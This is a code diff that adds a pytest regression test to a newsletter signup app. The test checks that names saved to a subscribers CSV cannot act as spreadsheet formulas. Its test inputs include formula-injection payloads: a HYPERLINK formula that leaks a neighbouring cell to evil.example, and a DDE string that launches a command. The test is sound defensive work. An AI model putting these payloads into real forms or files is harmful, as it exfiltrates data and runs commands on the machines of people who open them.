@@ -714,3 +714,33 @@ def test_per_client_zero_turns_the_page_limit_off(tmp_path: Path) -> None:
     client = Client(make_app(pub, secret=SECRET, clock=lambda: T0))
     t = tokens.ReaderTokens(SECRET, lambda: T0).confirm("cy@example.org", "", ["weekly"])
     assert all(client.post("/confirm", data={"t": t}).status_code == 200 for _ in range(150))
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        '=HYPERLINK("https://evil.example/?"&A2,"Ada")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        " \t=1+1",
+        "= =@1",
+    ],
+)
+def test_a_name_from_the_form_is_no_spreadsheet_formula(pub: Config, typed: str) -> None:
+    # subscribers.csv is meant to be opened in a spreadsheet: a name written there as typed
+    # ran as a formula on the publisher's machine (a link carrying the row next to it)
+    client = Client(make_app(pub, secret=SECRET, clock=lambda: T0))
+    subscribe(client, "eve@example.org", name=typed)
+    token = link(mails(pub)[0], "confirm")
+    assert client.post("/confirm", data={"t": token}).status_code == 200
+    with (pub.subscribers.path / "subscribers.csv").open(newline="", encoding="utf-8") as f:
+        [row] = [r for r in csv.DictReader(f) if r["email"] == "eve@example.org"]
+    assert row["name"] and row["name"][0] not in "=+-@ \t"
+    assert row["name"] in typed  # only the start went
+    # and through /preferences
+    prefs = tokens.Signer(SECRET).preferences.token("eve@example.org")
+    client.post(f"/preferences?t={prefs}", data={"list": "weekly", "name": typed})
+    with (pub.subscribers.path / "subscribers.csv").open(newline="", encoding="utf-8") as f:
+        [row] = [r for r in csv.DictReader(f) if r["email"] == "eve@example.org"]
+    assert row["name"] and row["name"][0] not in "=+-@ \t"
